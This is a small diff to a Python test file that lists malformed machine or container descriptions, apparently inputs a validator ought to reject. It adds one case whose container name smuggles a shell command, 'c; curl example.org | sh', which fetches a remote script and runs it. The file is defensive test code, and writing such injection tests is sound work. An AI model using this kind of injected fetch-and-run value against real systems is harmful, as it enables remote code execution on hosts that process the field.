@@ -35,6 +35,7 @@ def test_the_biggest_machine_is_a_set_of_cores():
         {"gpus": [{"index": 0, "uuid": ""}]},
         {"gpus": [{"index": 0, "uuid": "GPU-0", "memory": "big"}]},
         {"unknown": [{"container": "c", "cores": "many"}]},
+        {"unknown": [{"container": "c; curl example.org | sh"}]},
         {"unknown": [{"container": "c", "sshPort": 0}]},
         {"unknown": [{"container": "c", "epoch": -1}]},
         {"unknown": [{"container": "c"}] * (MOST_UNKNOWN + 1)},
